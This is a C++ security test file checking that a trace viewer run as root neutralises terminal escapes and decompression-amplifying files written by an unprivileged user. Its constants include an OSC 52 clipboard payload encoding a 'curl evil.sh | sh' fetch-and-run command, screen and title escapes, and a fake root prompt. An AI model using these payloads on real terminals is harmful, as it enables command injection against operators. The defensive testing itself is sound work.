// What an unprivileged user writes, shown to the operator by atracectl (issue 37, defects 2
// and 3): the user controls record text, .bin struct and field names, and whole files of
// the stackcore form; the operator, as root, runs show, info and export on them. The real
// binaries: the attacker writes through the daemon as uid 65534, atracectl runs as root.
#include <catch2/catch.hpp>

#include <sys/stat.h>
#include <unistd.h>

#include <cstring>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <vector>

#include "as_user.h"
#include "support/daemon_helpers.h"
#include "support/raw_client.h"
#include "support/subprocess.h"
#include "support/temp_dir.h"

using namespace atraced;
using namespace atraced::testing;

namespace {

struct CtlRun {
  int exit_code = -1;
  std::string out, err;  // the first `keep` bytes of each
  std::string out_tail;  // the last 4 KiB of the output
  size_t out_size = 0;
  long max_rss_kib = 0;  // atracectl's peak resident set
};

std::string Slurp(const std::string& path, size_t keep, off_t from = 0) {
  std::ifstream in(path, std::ios::binary);
  in.seekg(from);
  std::string s(keep, '\0');
  in.read(s.data(), static_cast<std::streamsize>(keep));
  s.resize(static_cast<size_t>(in.gcount()));
  return s;
}

// atracectl with `args`, as root, its output in files, of which the test keeps `keep` bytes,
// with `env` added to the environment; its peak RSS through peak_rss (getrusage of its child),
// not mixed with what this process held when it forked.
CtlRun Ctl(const std::vector<std::string>& args, const std::map<std::string, std::string>& env = {},
           size_t keep = 64u << 20) {
  TempDir tmp;
  const std::string out_path = tmp / "out", err_path = tmp / "err";
  std::vector<std::string> argv{PEAK_RSS_BINARY, tmp / "rss", ATRACECTL_BINARY};
  argv.insert(argv.end(), args.begin(), args.end());
  const RunResult run = Run(argv, {.env = env, .stdout_file = out_path, .stderr_file = err_path});
  INFO(run.err);
  REQUIRE(run.exit_code >= 0);
  CtlRun r;
  r.exit_code = run.exit_code;
  const std::string rss = Slurp(tmp / "rss", 64);
  REQUIRE(!rss.empty());
  r.max_rss_kib = std::stol(rss);
  struct stat st {};
  REQUIRE(::stat(out_path.c_str(), &st) == 0);
  r.out_size = static_cast<size_t>(st.st_size);
  r.out = Slurp(out_path, keep);
  r.out_tail = Slurp(out_path, 4096, st.st_size > 4096 ? st.st_size - 4096 : 0);
  r.err = Slurp(err_path, keep);
  return r;
}

bool Has(const std::string& haystack, const std::string& needle) { return haystack.find(needle) != std::string::npos; }

// The first byte a terminal would act on: ESC and every other C0 control but newline and
// tab, DEL, a C1 control as a byte or as UTF-8 (U+0080..U+009F); npos when there is none.
size_t FirstControl(const std::string& s) {
  for (size_t i = 0; i < s.size(); ++i) {
    const auto c = static_cast<unsigned char>(s[i]);
    if ((c < 0x20 && c != '\n' && c != '\t') || c == 0x7f) return i;
    if (c == 0xc2 && i + 1 < s.size() && static_cast<unsigned char>(s[i + 1]) <= 0x9f) return i;
    if (c >= 0x80 && c <= 0xbf) {  // a continuation byte must follow a lead byte's sequence
      size_t k = i;
      while (k > 0 && (static_cast<unsigned char>(s[k - 1]) & 0xc0) == 0x80 && i - k < 3) --k;
      if (k == 0 || static_cast<unsigned char>(s[k - 1]) < 0xc2) return i;
    }
  }
  return std::string::npos;
}

void CheckInert(const std::string& what, const std::string& text) {
  const size_t at = FirstControl(text);
  INFO(what << ": a control at " << at << ": "
            << (at == std::string::npos ? std::string() : text.substr(at > 40 ? at - 40 : 0, 80)));
  CHECK(at == std::string::npos);
}

// A CANN .bin (version 2) with one struct entry of `fields` zero-length fields and `records`
// records of it: each record prints every field's name and reads nothing, so the text is
// about fields x records x (name + 4) bytes for 16 x records bytes of data.
std::string AmplifyingBin(const std::string& struct_name, const std::vector<std::string>& field_names,
                          uint32_t records) {
  std::string b;
  auto le = [&b](uint64_t v, size_t n) {
    for (size_t i = 0; i < n; ++i) b += static_cast<char>((v >> (8 * i)) & 0xff);
  };
  auto name32 = [&b](const std::string& n) {
    std::string padded = n.substr(0, 32);
    padded.resize(32, '\0');
    b += padded;
  };
  const uint32_t struct_size = 40 + 40 + 40 * static_cast<uint32_t>(field_names.size());
  le(0xD928, 4);
  le(2, 4);                // version
  le(0, 4);                // head; trace type 0
  le(struct_size, 4);
  le(16 + 16 * records, 4);  // data size
  le(0, 4);                // minutes west
  le(1700000000ull * 1000000000ull, 8);  // real time, ns
  b.append(16, '\0');
  le(1, 4);  // struct count
  b.append(36, '\0');
  name32(struct_name);
  le(field_names.size(), 4);
  le(1, 1);  // its type
  b.append(3, '\0');
  for (const auto& f : field_names) {
    name32(f);
    le(1, 1);  // uint8
    le(0, 1);  // DEC
    le(0, 2);  // length 0
    b.append(4, '\0');
  }
  le(16, 4);  // msg size
  le(0, 4);   // msg text size: a record carries no data
  le(records, 4);
  le(0, 4);
  for (uint32_t r = 0; r < records; ++r) {
    le(r, 8);  // cycle
    le(0, 4);  // size
    le(0, 1);  // not busy
    le(1, 1);  // the entry's type
    b.append(2, '\0');
  }
  return b;
}

const std::string kOsc52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";  // writes the clipboard
const std::string kClear = "\x1b[2J\x1b[H";
const std::string kTitle = "\x1b]0;root@host\x07";
const std::string kFakePrompt = "\r\x1b[Kroot@host:~# ";

}  // namespace

TEST_CASE("attack: escapes in records, .bin names and a user-written stackcore file reach no operator terminal",
          "[hardening][security][viewer]") {
  if (!NeedsRoot()) return;
  DaemonProcess d(ForAttacker());
  REQUIRE(StartForAttacker(d));
  Attacker attacker([&d](int out, int) {
    auto c = RawClient::Connect(d.socket());
    if (!c || !c->Hello()) ::_exit(91);
    const std::string records = "2026-12-03 08:00:00.000.001 launch " + kOsc52 + "\n2026-12-03 08:00:00.000.002 " +
                                kClear + kTitle + "\x9b" "31m 8-bit CSI \xc2\x9b" "2J \xff\xfe" + kFakePrompt + "\n";
    const std::string bin = AmplifyingBin("\x1b]0;pwned\x07", {kClear, "\xc2\x9d" "0;t\xc2\x9c", "ok"}, 3);
    // A file of the daemon's report form, written by the user itself: a crash the daemon never saw.
    const std::string report = "atraced: process 1 (sshd) caught a fatal signal\nsignal: SIGSEGV" + kOsc52 +
                               "\ncode: " + kTitle + "\nprogram: sshd" + kClear + "\ncommand line: /usr/sbin/sshd" +
                               kFakePrompt + "\n\n[stack]\nThread 1 (1, sshd)\n#0 0x1 0x0 evil" + kOsc52 + "\n";
    std::string why = WriteEvent(*c, 1, ATR_EVENT_SCHEDULE,
                                 {{ObjectFileRequest(0, 0, "hostile"), records}, {ObjectFileRequest(0, 0, "names", true), bin}});
    if (why.empty()) why = WriteEvent(*c, 2, ATR_EVENT_STACKCORE, {{StackcoreFileRequest("sshd"), report}});
    Report(out, why.empty() ? 0 : 1, why.empty() ? std::to_string(::getpid()) : why);
  });
  const std::string line = attacker.Line();
  INFO(line);
  REQUIRE(line.rfind("0 ", 0) == 0);
  const std::string pid = line.substr(2, line.size() - 3);
  const std::string sock = d.socket();
  const std::map<std::string, std::string> utc{{"TZ", "UTC"}};

  for (const char* seq : {"1", "2"}) {
    auto shown = Ctl({"--socket", sock, "show", seq}, utc);
    INFO(shown.err);
    CHECK(shown.exit_code == 0);
    CheckInert(std::string("show ") + seq, shown.out);
    CheckInert(std::string("show's errors ") + seq, shown.err);
    auto json = Ctl({"--socket", sock, "show", seq, "--json"}, utc);
    CHECK(json.exit_code == 0);
    CheckInert(std::string("show --json ") + seq, json.out);
  }
  // What was there is visible, as text.
  auto records = Ctl({"--socket", sock, "show", "1"}, utc);
  CHECK(Has(records.out, "launch \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\n"));
  CHECK(Has(records.out, "\\x9b31m 8-bit CSI \\xc2\\x9b2J \\xff\\xfe\\x0d\\x1b[Kroot@host:~# \n"));
  CHECK(Has(records.out, "\\x1b]0;pwned\\x07: \\x1b[2J\\x1b[H[], \\xc2\\x9d0;t\\xc2\\x9c[], ok[]\n"));

  auto info = Ctl({"--socket", sock, "info", pid}, utc);
  INFO(info.err);
  INFO(info.out);
  CHECK(info.exit_code == 0);
  CheckInert("info", info.out);
  CHECK(Has(info.out, "       Program: sshd\\x1b[2J\\x1b[H  (as a report says)\n"));
  CHECK(Has(info.out, "        Signal: SIGSEGV\\x1b]52;c;"));
  CHECK(Has(info.out, " #0 0x0000000000000001 0x0000000000000000 evil\\\\x1b]52;c;"));
  // Not presented as the daemon's word: nothing on disk tells it from a report atraced wrote.
  CHECK(Has(info.out, "a process may write one itself, so it is the file's word, not a crash atraced saw"));
  auto info_json = Ctl({"--socket", sock, "info", pid, "--json"}, utc);
  CHECK(info_json.exit_code == 0);
  CheckInert("info --json", info_json.out);
  CHECK(Has(info_json.out, "\"reports_are\":"));

  for (const char* format : {"chrome-json", "html"}) {
    auto exported = Ctl({"--socket", sock, "export", "--format", format}, utc);
    INFO(exported.err);
    CHECK(exported.exit_code == 0);
    CheckInert(std::string("export ") + format, exported.out);
    CheckInert(std::string("export's errors ") + format, exported.err);
  }
}

TEST_CASE("attack: a .bin that decodes to 1000 times its size: show and export stop at one bound for all files",
          "[hardening][security][viewer]") {
  if (!NeedsRoot()) return;
  DaemonProcess d(ForAttacker());
  REQUIRE(StartForAttacker(d));
  // The file: 1000 zero-length fields with 31-byte names, 1850 records: 69,744 bytes
  // that asys's rules turn into ~62 MiB of text, just under the bound of one file.
  std::vector<std::string> names;
  for (int i = 0; i < 1000; ++i) {
    std::string n = "f" + std::to_string(i);
    n.resize(31, 'x');
    names.push_back(n);
  }
  const std::string bin = AmplifyingBin("s", names, 1850);
  REQUIRE(bin.size() == 69744);
  constexpr int kFiles = 4;
  Attacker attacker([&d, &bin](int out, int) {
    auto c = RawClient::Connect(d.socket());
    if (!c || !c->Hello()) ::_exit(91);
    std::vector<EventFile> files;
    for (int i = 0; i < kFiles; ++i) files.push_back({ObjectFileRequest(0, 0, "amp" + std::to_string(i), true), bin});
    const std::string why = WriteEvent(*c, 1, ATR_EVENT_SCHEDULE, files);
    Report(out, why.empty() ? 0 : 1, why);
  });
  REQUIRE(attacker.Line() == "0 \n");
  const std::string sock = d.socket();
  constexpr long kBoundMib = 32;
  // The sanitizer's quarantine keeps freed memory resident on purpose: what is measured is
  // what atracectl holds.
  const std::map<std::string, std::string> env{
      {"TZ", "UTC"}, {"ASAN_OPTIONS", "quarantine_size_mb=0:thread_local_quarantine_size_kb=0:detect_leaks=0"}};
  const std::string bound = std::to_string(kBoundMib);
  const std::string said = "stopped at the text bound (--max-text-mib " + bound + "): ";
  constexpr size_t kKeep = 64 * 1024;
  Measure("viewer.version_peak_rss_kib", Ctl({"--version"}, env, kKeep).max_rss_kib);  // the floor

  auto shown = Ctl({"--socket", sock, "show", "1", "--max-text-mib", bound}, env, kKeep);
  INFO(shown.err);
  CHECK(shown.exit_code == 1);
  CHECK(Has(shown.err, said));
  CHECK(Has(shown.err, " of text from 1 of " + std::to_string(kFiles) + " files shown"));
  CHECK(Has(shown.err, "raise --max-text-mib"));
  CHECK(Has(shown.out_tail, "(" + said));
  CHECK(shown.out_size <= static_cast<size_t>(kBoundMib + 1) << 20);
  CHECK(shown.out_size >= static_cast<size_t>(kBoundMib - 1) << 20);
  Measure("viewer.show_peak_rss_kib", shown.max_rss_kib);
  CHECK(shown.max_rss_kib < 3 * kBoundMib * 1024);

  auto exported = Ctl({"--socket", sock, "export", "--format", "chrome-json", "--max-text-mib", bound}, env, kKeep);
  INFO(exported.err);
  CHECK(exported.exit_code == 1);
  CHECK(Has(exported.err, said));
  CHECK(Has(exported.err, "narrow the selection (--pid"));
  CHECK(exported.out.rfind("{\"displayTimeUnit\":\"ms\",\"traceEvents\":[\n", 0) == 0);  // still a whole document
  REQUIRE(exported.out_tail.size() >= 4);
  CHECK(exported.out_tail.substr(exported.out_tail.size() - 4) == "\n]}\n");
  // Each event held costs its text and its place (sizeof(TimelineEvent), 80 bytes with a
  // collective span's duration and args): at least a third of the bound is written out.
  CHECK(exported.out_size >= static_cast<size_t>(kBoundMib / 3) << 20);
  Measure("viewer.export_peak_rss_kib", exported.max_rss_kib);
  CHECK(exported.max_rss_kib < 3 * kBoundMib * 1024);
}
